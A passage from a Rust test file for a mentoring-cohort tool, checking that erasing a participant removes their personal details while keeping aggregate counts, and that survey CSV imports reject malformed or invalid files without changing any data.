            "q.xavier-yarrow@example.org",
            "vice-chancellor",
            "exec 1",
            "white irish",
        ] {
            assert!(
                !text.contains(needle),
                "{file} still holds {needle}:\n{text}"
            );
        }
    }
    // The pair's history stays, without anything worked out from the erased characteristics.
    let (header, rows) = read_csv(&w.cohort_file("c", "matches.csv"));
    let pair = rows.iter().find(|r| r[0] == "p001").expect("pair row kept");
    assert_eq!(
        pair[header.iter().position(|h| h == "status").expect("status")],
        "ended"
    );
    assert_eq!(
        pair[header.iter().position(|h| h == "reasons").expect("reasons")],
        ""
    );
    assert_eq!(
        pair[header.iter().position(|h| h == "end_reason").expect("end")],
        "mentee withdrew"
    );
    // Aggregates: the same number of people, pairs and meetings; held and cancelled still counted.
    let after = status(&w);
    let total = |v: &serde_json::Value| -> u64 {
        v["participants"]
            .as_array()
            .expect("counts")
            .iter()
            .map(|c| c["count"].as_u64().unwrap_or(0))
            .sum()
    };
    assert_eq!(total(&after), total(&before));
    assert_eq!(total(&after), 5);
    assert_eq!(after["meetings_held"], before["meetings_held"]);
    assert_eq!(after["meetings_held"], 1);
    assert_eq!(after["pairs_ended"], 1);
    assert_eq!(
        w.cohort_file("c", "meetings.csv").lines().count(),
        meetings_before
    );
    assert_eq!(
        w.cohort_file("c", "matches.csv").lines().count(),
        pairs_before
    );
    let meetings = |v: &serde_json::Value| -> u64 {
        ["meetings_planned", "meetings_held", "meetings_cancelled"]
            .iter()
            .map(|k| v[k].as_u64().unwrap_or(0))
            .sum()
    };
    assert_eq!(meetings(&after), meetings(&before));
    assert_eq!(meetings(&after) as usize, meetings_before - 1);
    assert!(after["meetings_cancelled"].as_u64() > before["meetings_cancelled"].as_u64());
    let participants = w.cohort_file("c", "participants.csv");
    assert!(
        participants.contains("p003,mentor,Ann Lee,ann@x.example,Chemistry,,p001,"),
        "{participants}"
    );
    assert!(
        participants.contains("p004,mentor,Cy Dunn,cy@x.example,Library,,,active,2020-01-06,p001,"),
        "{participants}"
    );
    // The partner can be matched again; the cohort still reads and writes.
    w.sh_on("2020-03-10", "match c --dry-run").ok();
    assert_eq!(w.enrol("mentee", "Next", "next@x.example", &[]), "p006");
}

// ---------------------------------------------------------------------------------------------
// To cover here when `survey import` and `export` land (another branch adds them):
// - survey import: every refusal `enrol --from` has above and in enrol.rs (empty, BOM-only,
//   header-only, Windows-1252, UTF-16 with and without BOM, `;` and tab files, unclosed quote,
//   ragged row, duplicate headers, an unknown or twice-mapped column), plus an answer outside
//   1..scale, a question id not in cohort.toml, an unknown or erased respondent, the same person
//   twice in one phase, a number-mangled id, a bad `--phase`, a path-like cohort name (exit 2);
//   all or nothing, every file unchanged (`w.refuses`).
// - responses.csv: a coordinator's column kept across a re-import (`column_survives`); its
//   number-mangled ids refused like attendance/matches/meetings above; `crash_at_every_write_point`
//   over `survey import`; erasure: decide what an erased person's answers become (deleted, or kept
//   without the id) and extend the erasure test so no consented quote of theirs survives.
// - export (every --format, --pairs, --out): a name or quote beginning with = + - @ neutralised in
//   csv (and harmless in html/md); --out into a missing folder or over a cohort file refused;
//   --out written atomically (a kill leaves the old file or the new one); nothing printed for a
//   group below min_group, before and after an erasure; no characteristics in --pairs; a reader
//   during a stream of writes (like the status loop above) never fails.

#[test]
fn trust_survey_import_refuses_bad_exports_and_changes_nothing() {
    let w = small_cohort();
    let header = "Email address,confidence_race,heard\n";
    let cases: &[(&str, &[u8], i32, &[&str])] = &[
        (
            "scale.csv",
            b"Email address,confidence_race\nlead.one@x.example,7\n",
            1,
            &["scale.csv:2", "\"7\""],
        ),
        (
            "twice.csv",
            b"Email address,confidence_race\nlead.one@x.example,4\n LEAD.ONE@x.example,5\n",
            1,
            &["twice.csv:3"],
        ),
        (
            "unknown.csv",
            b"Email address,confidence_race\nnobody@x.example,4\nghost@x.example,2\n",
            1,
            &["nobody@x.example", "ghost@x.example"],
        ),
        ("empty.csv", b"", 1, &["empty.csv", "empty"]),
        (
            "latin1.csv",
            b"Email address,confidence_race\nlead.one@x.example,D\xE9j\xE0\n",
            1,
            &["latin1.csv:2", "not UTF-8"],
        ),
        (
            "semi.csv",
            b"Email address;confidence_race\nlead.one@x.example;4\n",
            1,
            &["semi.csv:1", "';'"],
        ),
        (
            "quote.csv",
            b"Email address,confidence_race\n\"lead.one@x.example,4\n",
            1,
            &["quote.csv:2", "never closed"],
        ),
        (
            "nocol.csv",
            b"Email address,Favourite colour\nlead.one@x.example,blue\n",
            1,
            &["Favourite colour", "--ignore-column"],
        ),
    ];
    for (file, bytes, code, says) in cases {
        w.write(file, bytes);
        w.refuses(
            &["survey", "c", "import", file, "--phase", "baseline"],
            *code,
            says,
        );
    }
    w.write("ok.csv", format!("{header}lead.one@x.example,4,\n"));
    w.refuses_sh("survey c import ok.csv --phase midpoint", 2, &["midpoint"]);
    w.refuses_sh(
        "survey ../c import ok.csv --phase baseline",
        2,
        &["not a cohort name"],
    );
    w.refuses_sh(
        "survey c import missing.csv --phase baseline",
        1,
        &["missing.csv"],
    );
    // An erased respondent is unknown: their email is gone.
    w.sh("withdraw c lead.one@x.example --erase --yes").ok();
    w.refuses_sh(
        "survey c import ok.csv --phase baseline",
        1,
        &["lead.one@x.example"],
    );
}

#[test]
fn trust_responses_keep_an_added_column_across_a_reimport() {
    let w = small_cohort();
    w.write(
        "b.csv",
        "Email address,confidence_race\nlead.one@x.example,4\nlead.two@x.example,3\n",
    );
    w.sh("survey c import b.csv --phase baseline").ok();
    let text = w.cohort_file("c", "responses.csv");
    let mut lines: Vec<String> = text.lines().map(|l| format!("{l},")).collect();
    lines[0].push_str("Checked by");
    for line in lines.iter_mut().skip(1) {
        line.push_str("JS");
    }
    w.write_cohort_file("c", "responses.csv", lines.join("\n") + "\n");
    w.write(
        "b.csv",
        "Email address,confidence_race\nlead.one@x.example,5\n",
    );
    w.sh("survey c import b.csv --phase baseline").ok();
    let after = w.cohort_file("c", "responses.csv");
    assert!(
        after
            .lines()
            .next()
            .is_some_and(|h| h.ends_with(",Checked by")),
        "{after}"
    );
    assert!(
        after
            .lines()
            .any(|l| l.starts_with("p002,") && l.ends_with(",JS")),
        "{after}"
    );
}
